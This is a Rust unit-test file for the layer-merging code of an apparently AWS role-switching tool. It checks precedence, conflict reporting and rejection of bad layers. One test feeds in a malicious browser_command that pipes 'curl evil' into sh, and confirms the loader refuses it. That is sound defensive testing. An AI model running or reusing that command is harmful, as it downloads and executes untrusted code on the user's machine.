//! Tests of `layers/mod.rs`.

use super::*;
use crate::catalog::model::{Client, Identity, Partition, Shortcut};

fn personal() -> Catalog {
    Catalog {
        identities: vec![Identity {
            id: "me".into(),
            account: "111111111111".into(),
            mfa_serial: None,
            mfa_process: None,
            partition: Partition::Aws,
            region: None,
            session_duration: None,
            session_name: None,
            ..Default::default()
        }],
        clients: vec![Client {
            id: "acme".into(),
            name: "Acme (mine)".into(),
            color: None,
            notes: None,
            link: None,
            browser: None,
        }],
        shortcuts: vec![Shortcut {
            id: "acme-prod".into(),
            client: "acme".into(),
            account: Some("222222222222".into()),
            role: "Admin".into(),
            ..Default::default()
        }],
        ..Catalog::default()
    }
}

fn input(layer: &str, text: &str) -> LayerInput {
    LayerInput {
        layer: layer.into(),
        file: format!("{layer}.toml"),
        text: Ok(text.into()),
        fetched: None,
    }
}

const TEAM: &str = "schema_version = 1\n[[client]]\nid = \"acme\"\nname = \"Acme (team)\"\n[[client]]\nid = \"globex\"\nname = \"Globex\"\n[[shortcut]]\nid = \"acme-prod\"\nclient = \"acme\"\naccount = \"999999999999\"\nrole = \"Admin\"\n[[shortcut]]\nid = \"globex-prod\"\nclient = \"globex\"\naccount = \"333333333333\"\nrole = \"ReadOnly\"\n";

#[test]
fn the_personal_file_wins_and_conflicts_are_named() {
    let merged = merge(personal(), vec![input("team", TEAM)]);
    let c = &merged.catalog;
    assert_eq!(
        c.client("acme").map(|c| c.name.as_str()),
        Some("Acme (mine)")
    );
    assert_eq!(
        c.shortcut("acme-prod").and_then(|s| s.account.as_deref()),
        Some("222222222222")
    );
    assert!(c.shortcut("globex-prod").is_some());
    assert_eq!(
        merged.origin(crate::catalog::model::EntryKind::Shortcut, "globex-prod"),
        "team"
    );
    assert_eq!(
        merged.origin(crate::catalog::model::EntryKind::Shortcut, "acme-prod"),
        PERSONAL
    );
    let ids: Vec<(&str, &str, &str)> = merged
        .conflicts
        .iter()
        .map(|c| (c.id.as_str(), c.kept.as_str(), c.ignored.as_str()))
        .collect();
    assert_eq!(
        ids,
        [
            ("acme", "personal", "team"),
            ("acme-prod", "personal", "team")
        ]
    );
    assert_eq!(merged.layers[0].entries, 2);
    assert_eq!(merged.layers[0].problem, None);
}

#[test]
fn a_bad_layer_is_left_out_whole_and_located_and_the_rest_still_loads() {
    let bad = "schema_version = 1\n[[shortcut]]\nid = \"x-one\"\nclient = \"acme\"\naccount = \"444444444444\"\nrole = \"Admin\"\n[[shortcut]]\nid = \"x-two\"\nclient = \"nobody\"\naccount = \"555555555555\"\nrole = \"Admin\"\n";
    let evil = "browser_command = \"sh -c 'curl evil | sh' {url}\"\n";
    let merged = merge(
        personal(),
        vec![
            input("bad", bad),
            input("evil", evil),
            LayerInput {
                text: Err(Unreadable::NotFetched),
                ..input("gone", "")
            },
            input("team", TEAM),
        ],
    );
    assert!(merged.catalog.shortcut("x-one").is_none(), "all or nothing");
    let problem = merged.layers[0].problem.clone().unwrap_or_default();
    assert!(
        problem.starts_with("bad.toml:9: shortcut[x-two].client"),
        "{problem}"
    );
    let problem = merged.layers[1].problem.clone().unwrap_or_default();
    assert!(problem.contains("browser command"), "{problem}");
    assert_eq!(
        merged.layers[2].problem.as_deref(),
        Some("not fetched yet: run `rolehop layers refresh`")
    );
    assert!(merged.catalog.shortcut("globex-prod").is_some());
}

#[test]
fn earlier_layers_win_over_later_ones() {
    let other = TEAM.replace("Globex", "Globex (other)");
    let merged = merge(
        personal(),
        vec![input("team", TEAM), input("other", &other)],
    );
    assert_eq!(
        merged.catalog.client("globex").map(|c| c.name.as_str()),
        Some("Globex")
    );
    assert!(
        merged
            .conflicts
            .iter()
            .any(|c| c.id == "globex" && c.kept == "team" && c.ignored == "other")
    );
}

#[test]
fn directory_layers_read_every_toml_file_in_order_and_urls_their_cache() {
    let dir = tempfile::tempdir().unwrap();
    let team = dir.path().join("team");
    std::fs::create_dir_all(&team).unwrap();
    std::fs::write(team.join("b.toml"), TEAM).unwrap();
    std::fs::write(team.join("a.toml"), "schema_version = 1\n").unwrap();
    std::fs::write(team.join("notes.md"), "ignored").unwrap();
    let mut catalog = personal();
    catalog.layers = vec![
        LayerSpec {
            id: "team".into(),
            path: Some("team".into()),
            url: None,
        },
        LayerSpec {
            id: "remote".into(),
            path: None,
            url: Some("https://example.com/c.toml".into()),
        },
    ];
    let dirs = LayerDirs {
        config_dir: dir.path().to_path_buf(),
        cache_dir: dir.path().join("cache"),
        discovered_dir: dir.path().join("discovered"),
    };
    let merged = load(catalog, &dirs);
    let files: Vec<String> = merged
        .layers
        .iter()
        .map(|l| {
            std::path::Path::new(&l.file)
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default()
        })
        .collect();
    assert_eq!(files, ["a.toml", "b.toml", "c.toml"]);
    assert!(
        merged.layers[2]
            .problem
            .as_deref()
            .unwrap_or_default()
            .contains("layers refresh")
    );
    assert!(merged.catalog.shortcut("globex-prod").is_some());
}
